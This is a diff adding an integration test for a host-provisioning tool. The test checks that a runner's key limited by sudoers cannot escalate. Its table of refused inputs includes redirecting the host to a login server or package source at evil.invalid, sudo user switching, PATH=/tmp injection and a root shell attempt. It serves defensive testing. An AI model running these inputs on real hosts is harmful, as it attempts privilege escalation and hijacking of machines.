@@ -1,0 +1,90 @@
+// A host whose sudo asks for a password, prepared once by a person: what the runner's key can do then, and what it cannot.
+
+import { spawnSync } from "node:child_process";
+import { join } from "node:path";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import type { Lab } from "../../lab/nspawn/index.ts";
+import { describeLab, mesh, nodes, openLab, sh } from "./support.ts";
+
+const password = "correct horse battery";
+
+describeLab("mesh remote prepare", () => {
+  let lab: Lab;
+
+  beforeAll(async () => {
+    lab = await openLab();
+    await lab.fresh("h1");
+    const id = (await nodes(lab)).get("h1")?.id;
+    if (id !== undefined) await sh(lab, "sfspark1", `headscale nodes delete -i ${id} --force`);
+    await sh(lab, "h1", `echo 'steve:${password}' | chpasswd`);
+    await lab.fault("sudo", "h1");
+  });
+
+  afterAll(() => lab?.heal("sudo", "h1"));
+
+  const cli = join(import.meta.dirname, "../../src/cli.ts");
+  const prepare = (typed: string, ...words: string[]) =>
+    spawnSync(process.execPath, [cli, "-i", lab.inventory, "remote", "prepare", "h1", ...words], {
+      input: `${typed}\n`,
+      encoding: "utf8",
+    });
+  const asSteve = (words: string) =>
+    lab.exec("h1", ["runuser", "-u", "steve", "--", "sh", "-c", `(${words}) </dev/null 2>/dev/null`]);
+  const copy = "sudo -n /usr/local/lib/mesh/mesh-host ab";
+
+  test("before it, a plan says what to type; a wrong password changes nothing", async () => {
+    const plan = await mesh(["-i", lab.inventory, "plan", "h1"]);
+    expect(plan.stdout).toMatch(/SUDO_PASSWORD \(h1, detect\)[\s\S]*next: mesh remote prepare /);
+    const wrong = prepare("guess");
+    expect([wrong.status, wrong.stderr]).toEqual([1, expect.stringContaining("sudo did not take the password")]);
+    expect(await sh(lab, "h1", "ls -d /etc/mesh /usr/local/lib/mesh 2>/dev/null || true")).toBe("");
+  });
+
+  test("with the password once, the host is provisioned, and sudo still asks for everything else", async () => {
+    const run = prepare(password);
+    expect(run.status, run.stdout + run.stderr).toBe(0);
+    expect(run.stdout + run.stderr).not.toContain(password);
+    const apply = await mesh(["-i", lab.inventory, "apply", "--yes", "h1"]);
+    expect(apply.code, apply.stdout).toBe(0);
+    expect((await asSteve("sudo -n /bin/sh -c id")).code).toBe(1);
+    expect(
+      await sh(lab, "h1", "stat -c '%U %a' /usr/local/lib/mesh/mesh-host /etc/mesh/pinned /etc/sudoers.d/mesh"),
+    ).toBe("root 755\nroot 644\nroot 440\n");
+  });
+
+  test.each([
+    ["another login server", "echo hskey-auth-x | COPY join --login-server http://evil.invalid --hostname h1"],
+    [
+      "another source",
+      "COPY install-tailscale --version 1.102.3 --source http://evil.invalid --signing-key " + "A".repeat(40),
+    ],
+    ["another user's Syncthing", "COPY install-syncthing --user root --gui-port 8384"],
+    ["a verb of preparing", "COPY prepare --undo"],
+    ["an option of sudo", "sudo -n -u steve2 /usr/local/lib/mesh/mesh-host ab version"],
+    ["a variable for the copy", "sudo -n PATH=/tmp /usr/local/lib/mesh/mesh-host ab set --start"],
+  ])("with the runner's key, %s is refused", async (_, words) => {
+    const { code, stdout } = await asSteve(words.replace("COPY", copy));
+    expect(code, stdout).not.toBe(0);
+    expect(await sh(lab, "h1", "test -e /etc/sudoers.d/mesh && tailscale debug prefs")).not.toContain("evil");
+  });
+
+  test("a copy of another release is said, a person is needed, and prepare again mends it", async () => {
+    await sh(
+      lab,
+      "h1",
+      "sed -i 's/^mesh_program_version=.*/mesh_program_version=0.0.1+old/' /usr/local/lib/mesh/mesh-host",
+    );
+    await sh(lab, "h1", "tailscale down");
+    const plan = await mesh(["-i", lab.inventory, "plan", "h1"]);
+    expect([plan.code, plan.stdout]).toEqual([3, expect.stringContaining("mesh remote prepare")]);
+    expect(prepare(password).status).toBe(0);
+    expect((await mesh(["-i", lab.inventory, "apply", "--yes", "h1"])).code).toBe(0);
+  });
+
+  test("--undo takes everything away", async () => {
+    const run = prepare(password, "--undo");
+    expect(run.status, run.stderr).toBe(0);
+    expect(await sh(lab, "h1", "ls -d /etc/mesh /usr/local/lib/mesh /etc/sudoers.d/mesh 2>/dev/null || true")).toBe("");
+    expect((await asSteve(`${copy} version`)).code).toBe(1);
+  });
+});
